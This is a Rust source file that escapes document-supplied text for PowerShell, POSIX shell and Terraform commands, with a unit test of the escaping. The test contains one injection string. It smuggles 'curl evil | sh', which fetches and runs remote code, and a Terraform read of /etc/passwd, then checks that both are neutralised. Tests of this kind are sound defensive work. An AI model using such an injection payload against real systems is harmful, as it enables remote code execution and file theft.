//! Texts from documents within commands: whatever a name holds, it stays a name.

#[cfg(feature = "network")]
use std::borrow::Cow;

/// How a command or a template quotes, by what reads it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Quoting {
    PowerShell,
    /// bash and the like, in which `az` runs.
    Posix,
    #[cfg(feature = "network")]
    Terraform,
}

impl Quoting {
    /// The text as it stands between the quotes of the shell: single ones, in Terraform double ones. Control characters end no
    /// line.
    pub(crate) fn escaped(self, text: &str) -> String {
        let text = text.replace(char::is_control, " ");
        match self {
            Quoting::PowerShell => text.replace('\'', "''"),
            Quoting::Posix => text.replace('\'', r"'\''"),
            #[cfg(feature = "network")]
            Quoting::Terraform => text.replace('\\', r"\\").replace('"', "\\\"").replace("${", "$${").replace("%{", "%%{"),
        }
    }

    /// The text as one word: plain where it can be, otherwise between quotes.
    #[cfg(feature = "network")]
    pub(crate) fn word(self, text: &str) -> Cow<'_, str> {
        let plain = |c: char| c.is_ascii_alphanumeric() || "._:/-".contains(c);
        match self {
            Quoting::Terraform => Cow::Owned(format!("\"{}\"", self.escaped(text))),
            _ if !text.is_empty() && text.chars().all(plain) => Cow::Borrowed(text),
            _ => Cow::Owned(format!("'{}'", self.escaped(text))),
        }
    }
}

#[cfg(all(test, feature = "network"))]
mod tests {
    use super::*;

    #[test]
    fn a_name_stays_a_name() {
        let name = "x'; curl evil | sh; \n\"${file(\"/etc/passwd\")}";
        assert_eq!(Quoting::Posix.escaped(name), r#"x'\''; curl evil | sh;  "${file("/etc/passwd")}"#);
        assert_eq!(Quoting::PowerShell.escaped("it's"), "it''s");
        assert_eq!(Quoting::Terraform.escaped("a\"${b}%{c}\\"), r#"a\"$${b}%%{c}\\"#);
        assert_eq!(
            [Quoting::Posix.word("20.0.0.0/8"), Quoting::Posix.word("*"), Quoting::Posix.word("")],
            ["20.0.0.0/8", "'*'", "''"]
        );
    }
}
